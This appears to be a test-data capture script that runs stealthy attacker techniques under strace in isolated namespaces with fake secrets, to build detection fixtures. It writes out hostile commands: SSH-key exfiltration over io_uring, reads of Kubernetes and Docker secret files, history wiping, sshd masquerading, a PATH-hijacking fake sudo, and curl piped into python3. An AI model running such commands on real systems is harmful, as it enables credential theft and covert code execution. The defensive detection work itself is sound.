#!/bin/bash
# Captures testdata/formats/strace/f_tt_T_y_io_uring_exfil.txt, f_tt_T_y_container_secrets.txt,
# f_tt_T_y_v_history_off.txt, f_tt_T_y_v_history_kept.txt, f_tt_T_y_daemon_masquerade.txt, f_tt_T_y_spy_tools.txt, f_tt_T_y_process_vm_readv.txt, f_tt_T_y_ldso_exec.txt, f_tt_T_y_path_hijack.txt and f_tt_T_y_s200_pipe_to_interpreter.txt: behaviour that hides
# from a syscall trace or leaves no file behind, each run as uid 1001 in fresh pid, mount and
# net namespaces (only `lo`; every connection goes to 127.0.0.1), a tmpfs home with FAKE
# secrets (random text) and a tmpfs /run holding a fake Kubernetes service-account token and
# a fake Docker secret.
#   io_uring_exfil: apps/io_uring_probe --send: ~/.ssh/id_rsa opened and read, a TCP socket
#     made, connected to an untraced listener on 127.0.0.1:18555 and the key sent, all
#     through io_uring (IORING_OP_OPENAT/READ/SOCKET/CONNECT/SEND): no openat, socket or
#     connect of the program is in the trace.
#   container_secrets: cat of /var/run/secrets/kubernetes.io/serviceaccount/token and
#     /run/secrets/db_password (a pod's API token, a swarm/compose secret).
#   history_off: sh runs bash -c 'unset HISTFILE; history -c; id -u' and a bash started
#     by env with HISTFILE=/dev/null HISTSIZE=0 in its environment (-v shows it).
#   history_kept: the negative: sh runs bash with HISTSIZE=1000 and a bash that prints
#     its last history entry and $HISTFILE.
#   daemon_masquerade: bash's `exec -a` runs sleep as "/usr/sbin/sshd" and as
#     "sshd: root@pts/0", python3 renames itself "systemd-journal" with prctl(PR_SET_NAME);
#     the negative: `exec -a sleep /usr/bin/sleep` (argv[0] its own name).
#   spy_tools (needs xclip, alsa-utils): sh runs xclip -o (the clipboard read; no X server,
#     so it fails to connect to /tmp/.X11-unix/X0) and arecord (no sound card: it fails); the
#     negative: xclip -i, a write to the clipboard.
#   process_vm_readv: python3 forks a child, reads its /proc/PID/maps and 64 bytes of its
#     memory with process_vm_readv (no ptrace attach: what credential dumpers use).
#   ldso_exec: a copy of id in /tmp without its execute bit run through the dynamic loader
#     (/lib64/ld-linux-x86-64.so.2 /tmp/.cache-id): no execve of the file, as a noexec mount
#     or a missing x bit would refuse it.
#   path_hijack: a fake sudo written to ~/.local/bin and an ls copied to ~/bin (both ahead
#     of /usr/bin in a login PATH); the negative: ~/.local/bin/flask, what pip install --user
#     writes.
#   pipe_to_interpreter: a Python "updater" whose os.system runs sh -c 'curl -fsS URL |
#     python3 -' and sh -c 'python3 -c "$(curl -fsS URL)"' against an untraced python
#     http.server on 127.0.0.1:18556 serving a one-line stage.
# Needs gcc, strace, curl, python3. Run as root: testdata/formats/capture_stealth_probes.sh
set -euo pipefail
HERE=$(cd "$(dirname "$0")" && pwd)
if [[ "${1:-}" != "--inside" ]]; then
  exec unshare --pid --fork --mount-proc --mount --net "$0" --inside
fi
ip link set lo up
mount --make-rprivate /
mount -t tmpfs -o mode=1777 tmpfs /tmp
mount -t tmpfs -o mode=755 tmpfs /run
H=/tmp/home && mkdir -p $H/.ssh $H/www && chmod 755 $H
{ echo "-----BEGIN OPENSSH PRIVATE KEY-----"; head -c 300 /dev/urandom | base64 -w 70
  echo "-----END OPENSSH PRIVATE KEY-----"; } > $H/.ssh/id_rsa
mkdir -p /run/secrets/kubernetes.io/serviceaccount
echo "eyJhbGciOiJSUzI1NiJ9.FAKE.$(head -c 24 /dev/urandom | base64 | tr -d '/+=')" \
  > /run/secrets/kubernetes.io/serviceaccount/token
head -c 18 /dev/urandom | base64 > /run/secrets/db_password
chmod 644 /run/secrets/kubernetes.io/serviceaccount/token /run/secrets/db_password
echo 'print("stage 2 ran")' > $H/www/stage.py
chown -R 1001:1001 $H
gcc -O2 -o /tmp/io_uring_probe "$HERE/../harness/apps/io_uring_probe/io_uring_probe.c"
S="$HERE/strace"
wait_port() { for _ in $(seq 100); do ss -Hltn "sport = :$1" | grep -q . && return 0; sleep 0.1; done; return 1; }
run() {  # run OUTFILE STRACE_FLAGS... -- CMD...; with RD_ONLY=OUTFILE only that capture runs
  local out=$1 flags=(); shift
  [[ -z "${RD_ONLY:-}" || "$RD_ONLY" == "$out" ]] || return 0
  while [[ "$1" != -- ]]; do flags+=("$1"); shift; done; shift
  (cd $H && env -i PATH=/usr/bin:/bin HOME=$H LANG=C.UTF-8 \
     strace "${flags[@]}" -o "$S/$out" setpriv --reuid=1001 --regid=1001 --clear-groups "$@" \
     < /dev/null > /tmp/out.txt 2>&1) || true
  cat /tmp/out.txt
}
if [[ -z "${RD_ONLY:-}" || "$RD_ONLY" == f_tt_T_y_io_uring_exfil.txt ]]; then
python3 -c 'import socket; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 18555)); s.listen(1); c, _ = s.accept(); c.recv(4096); c.close()' &
wait_port 18555
run f_tt_T_y_io_uring_exfil.txt -f -tt -T -y -- /tmp/io_uring_probe --send 18555 $H/.ssh/id_rsa
wait
fi
run f_tt_T_y_container_secrets.txt -f -tt -T -y -- /bin/sh -c \
  'cat /var/run/secrets/kubernetes.io/serviceaccount/token /run/secrets/db_password > /dev/null'
run f_tt_T_y_v_history_off.txt -f -tt -T -y -v -s 128 -e trace=process,file -- /bin/sh -c \
  '/bin/bash -c "unset HISTFILE; history -c; id -u"; env HISTFILE=/dev/null HISTSIZE=0 /bin/bash -c "id -u"'
run f_tt_T_y_v_history_kept.txt -f -tt -T -y -v -s 128 -e trace=process -- /bin/sh -c \
  'HISTSIZE=1000 /bin/bash -c "echo \$HISTSIZE"; /bin/bash -c "history | tail -n 1; echo HISTFILE=\$HISTFILE"'
python3 -m http.server --bind 127.0.0.1 --directory $H/www 18556 > /dev/null 2>&1 &
HTTP=$!
wait_port 18556
run f_tt_T_y_daemon_masquerade.txt -f -tt -T -y -s 96 -- /bin/sh -c \
  '/bin/bash -c "exec -a /usr/sbin/sshd sleep 0.1"; /bin/bash -c "exec -a \"sshd: root@pts/0\" sleep 0.1";
   python3 -c "import ctypes; ctypes.CDLL(None).prctl(15, b\"systemd-journal\", 0, 0, 0)";
   /bin/bash -c "exec -a sleep /usr/bin/sleep 0.1"'
run f_tt_T_y_spy_tools.txt -f -tt -T -y -s 96 -e trace=process,network -- /bin/sh -c \
  'DISPLAY=:0 xclip -o -selection clipboard; arecord -q -d 1 -f cd /tmp/mic.wav; DISPLAY=:0 xclip -selection clipboard -i /dev/null'
cp /usr/bin/id /tmp/.cache-id && chmod 644 /tmp/.cache-id
run f_tt_T_y_ldso_exec.txt -f -tt -T -y -s 96 -- /bin/sh -c '/lib64/ld-linux-x86-64.so.2 /tmp/.cache-id -u'
run f_tt_T_y_path_hijack.txt -f -tt -T -y -s 96 -e trace=process,file -- /bin/sh -c \
  'mkdir -p $HOME/.local/bin $HOME/bin; printf "#!/bin/sh\nexec /usr/bin/sudo \"\$@\"\n" > $HOME/.local/bin/sudo;
   chmod 755 $HOME/.local/bin/sudo; cp /bin/true $HOME/bin/ls; printf "#!/bin/sh\n" > $HOME/.local/bin/flask;
   chmod 755 $HOME/.local/bin/flask'
cat > $H/peek.py <<'PY'
import ctypes, os, time
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
pid = os.fork()
if pid == 0:
    time.sleep(0.5)
    os._exit(0)
start = int(open(f"/proc/{pid}/maps").readline().split("-")[0], 16)
buf = ctypes.create_string_buffer(64)
local, remote = iovec(ctypes.cast(buf, ctypes.c_void_p), 64), iovec(ctypes.c_void_p(start), 64)
print("read", ctypes.CDLL(None).process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))
os.waitpid(pid, 0)
PY
run f_tt_T_y_process_vm_readv.txt -f -tt -T -y -e trace=process,file,process_vm_readv -- /usr/bin/python3 $H/peek.py
cat > $H/updater.py <<'PY'
import os
URL = "http://127.0.0.1:18556/stage.py"
os.system(f"curl -fsS {URL} | python3 -")
os.system(f'python3 -c "$(curl -fsS {URL})"')
PY
run f_tt_T_y_s200_pipe_to_interpreter.txt -f -tt -T -y -s 200 -e trace=process,network,file -- /usr/bin/python3 $H/updater.py
kill $HTTP
